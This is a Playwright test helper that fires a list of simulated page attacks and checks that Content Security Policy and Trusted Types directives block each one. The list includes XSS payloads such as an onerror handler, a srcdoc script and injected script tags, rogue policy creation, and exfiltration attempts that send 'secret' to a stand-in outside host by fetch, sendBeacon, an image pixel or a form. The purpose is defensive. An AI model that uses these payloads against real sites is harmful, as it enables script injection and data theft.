import {type Browser, expect} from '@playwright/test';

const OUTSIDE = 'http://127.0.0.1:9/';

/** What an attacker who found a way into the page might try: the directive that has to stop it, and the try. */
const ATTACKS: readonly (readonly [directive: string, attempt: (outside: string) => unknown])[] = [
  [
    'require-trusted-types-for',
    () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="ran = true">'),
  ],
  [
    'require-trusted-types-for',
    () => {
      document.body.innerHTML = '<iframe srcdoc="<script>top.ran = true</script>"></iframe>';
    },
  ],
  [
    'require-trusted-types-for',
    () =>
      document.body.append(
        Object.assign(document.createElement('script'), {text: 'window.ran = true'}),
      ),
  ],
  [
    'require-trusted-types-for',
    (outside) =>
      document.body.append(
        Object.assign(document.createElement('script'), {src: `${outside}script.js`}),
      ),
  ],
  ['require-trusted-types-for', () => document.body.setAttribute('onclick', 'window.ran = true')],
  [
    'trusted-types',
    () => Object(window).trustedTypes.createPolicy('mine', {createHTML: (html: string) => html}),
  ],
  [
    'trusted-types',
    () => Object(window).trustedTypes.createPolicy('default', {createScript: String}),
  ],
  ['style-src-attr', () => document.body.setAttribute('style', 'background: red')],
  [
    'style-src-elem',
    () =>
      document.head.append(
        Object.assign(document.createElement('style'), {textContent: 'body { color: red }'}),
      ),
  ],
  [
    'img-src',
    (outside) => document.body.append(Object.assign(new Image(), {src: `${outside}pixel?secret`})),
  ],
  ['connect-src', (outside) => fetch(`${outside}steal`, {method: 'POST', body: 'secret'})],
  ['connect-src', (outside) => navigator.sendBeacon(`${outside}steal`, 'secret')],
  ['connect-src', (outside) => new WebSocket(outside.replace('http', 'ws'))],
  [
    'frame-src',
    (outside) =>
      document.body.append(Object.assign(document.createElement('iframe'), {src: outside})),
  ],
  [
    'form-action',
    (outside) => {
      const form = Object.assign(document.createElement('form'), {action: outside, method: 'post'});
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'base-uri',
    (outside) =>
      document.head.append(Object.assign(document.createElement('base'), {href: outside})),
  ],
];

/** Lets every attack loose on a page and expects each one stopped by its directive, and no script run. */
export const attack = async (browser: Browser, address: string): Promise<void> => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const left: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(OUTSIDE)) left.push(request.url());
  });
  await page.addInitScript(() => {
    const stopped: string[] = [];
    Object.assign(window, {stopped});
    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) => {
      stopped.push(effectiveDirective);
    });
  });
  await page.goto(address);
  await expect(page.locator('html[data-ready]')).toBeAttached();
  for (const [directive, attempt] of ATTACKS) {
    const source = attempt.toString();
    await page.evaluate(attempt, OUTSIDE).catch(() => undefined);
    const stopped = () => page.evaluate(() => Object(window).stopped);
    await expect.poll(stopped, source).toEqual([directive]);
    await page.evaluate(() => Object(window).stopped.splice(0));
  }
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  await context.close();
};
